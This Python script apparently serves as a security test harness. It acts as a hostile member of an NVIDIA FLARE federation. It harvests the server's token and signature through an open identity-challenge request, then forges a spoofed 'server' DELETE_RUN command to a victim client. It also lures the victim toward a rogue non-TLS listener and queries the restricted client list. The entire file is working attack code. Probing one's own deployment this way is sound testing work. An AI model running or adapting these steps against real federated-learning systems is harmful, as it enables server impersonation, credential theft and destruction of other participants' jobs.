"""A member of the federation with its own kit and code of its own: what it can send, and what it then hears.

``python hostile_member.py KIT PORT VICTIM``: connects with the certificate of KIT and prints, as JSON, whether it
learnt what FLARE's server proves itself with, what it was told, and whom it heard on a listener that calls itself the
server.
"""

import json
import os
import sys
import time
from pathlib import Path
from typing import Any

from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.core_cell import CoreCell, MessageType
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, IdentityChallengeKey
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
from nvflare.fuel.f3.cellnet.utils import encode_payload, new_cell_message
from nvflare.fuel.f3.communicator import Communicator, Mode
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.endpoint import Endpoint
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellMessageHeaderKeys, RequestHeader, TrainingTopic
from nvflare.private.fed.utils.fed_utils import nvflare_fobs_initialize

from med_duallora.flare.local.processes import free_port

PROOFS = (CellMessageHeaderKeys.CLIENT_NAME, CellMessageHeaderKeys.TOKEN, CellMessageHeaderKeys.TOKEN_SIGNATURE)
PATIENCE_S = 15.0
FORGED_TOPIC = TrainingTopic.DELETE_RUN


class Listener:
    """Calls itself the server, without TLS, and keeps the origin of every message that it gets."""

    def __init__(self) -> None:
        self.url = f"tcp://localhost:{free_port()}"
        self.heard: list[str] = []
        communicator = Communicator(Endpoint("server"))
        communicator.register_message_receiver(CoreCell.APP_ID, self)
        communicator.add_connector(self.url, Mode.PASSIVE, False)
        communicator.start()

    def process_message(self, endpoint: Any, connection: Any, app_id: int, message: CellMessage) -> None:  # noqa: ARG002
        self.heard.append(str(message.get_header(Key.ORIGIN)))


def member(kit: Path, port: int) -> Cell:
    """Connect as FLARE's client does, under a name below the kit's own."""
    startup = kit / "startup"
    files = {
        DriverParams.CA_CERT: "rootCA.pem",
        DriverParams.CLIENT_CERT: "client.crt",
        DriverParams.CLIENT_KEY: "client.key",
    }
    credentials = {key.value: str(startup / name) for key, name in files.items()}
    cell = Cell(
        f"{kit.name}.{os.getpid()}", f"grpc://localhost:{port}", secure=True, credentials=credentials, parent_url=None
    )
    cell.start()
    end = time.monotonic() + PATIENCE_S
    while "server" not in cell.core_cell.agents and time.monotonic() < end:
        time.sleep(0.1)
    return cell


def proofs_of_the_server(cell: Cell) -> dict[str, Any]:
    """Return what the server proves itself with: it stands in its answer to a question that anybody may ask."""
    question = new_cell_message({IdentityChallengeKey.COMMON_NAME: "x", IdentityChallengeKey.NONCE: "x"}, None)
    reply = cell.send_request(
        CellChannel.SERVER_MAIN, CellChannelTopic.Challenge, "server", question, PATIENCE_S, optional=True
    )
    return {key: reply.get_header(key) for key in PROOFS}


def send(cell: Cell, victim: str, proofs: dict[str, Any], payload: Any, **headers: Any) -> None:
    core = cell.core_cell
    message = CellMessage(
        {
            Key.MSG_TYPE: MessageType.REQ,
            Key.DESTINATION: victim,
            Key.FROM_CELL: core.get_fqcn(),
            Key.TO_CELL: "server",
            Key.REQ_ID: "forged",
            Key.REPLY_EXPECTED: False,
            **proofs,
            **headers,
        },
        payload,
    )
    encode_payload(message, fobs_ctx={})
    core._send_to_endpoint(core.agents["server"].endpoint, message)


def told(cell: Cell, proofs: dict[str, Any]) -> str:
    """Return the server's code for what only its own processes should ask: who takes part, and with which token."""
    question = new_cell_message({**proofs, CellMessageHeaderKeys.JOB_ID: "x"}, {})
    reply = cell.send_request(
        CellChannel.SERVER_PARENT_LISTENER, "get_clients", "server", question, PATIENCE_S, optional=True
    )
    return str(reply.get_header(Key.RETURN_CODE))


def attack(kit: Path, port: int, victim: str) -> dict[str, Any]:
    nvflare_fobs_initialize()
    cell, listener = member(kit, port), Listener()
    proofs = proofs_of_the_server(cell)
    command = Message(FORGED_TOPIC, "")
    command.set_header(RequestHeader.JOB_ID, "local")
    to_admin = {Key.CHANNEL: CellChannel.CLIENT_MAIN, Key.TOPIC: "admin"}
    send(cell, victim, proofs, command, **to_admin, **{Key.ORIGIN: "server"})
    for kind in (MessageType.REPLY, MessageType.REQ):
        for origin in (cell.core_cell.get_fqcn(), "server.other"):
            invitation = {Key.MSG_TYPE: kind, Key.ORIGIN: origin, Key.CONN_URL: listener.url}
            send(cell, victim, proofs, b"", **to_admin, **invitation)
    end = time.monotonic() + PATIENCE_S
    while time.monotonic() < end and not listener.heard:
        time.sleep(0.1)
    return {"learnt": all(proofs.values()), "told": told(cell, proofs), "heard": sorted(set(listener.heard))}


if __name__ == "__main__":
    try:
        print(json.dumps(attack(Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3])), flush=True)
    finally:
        os._exit(0)  # FLARE's threads would keep it
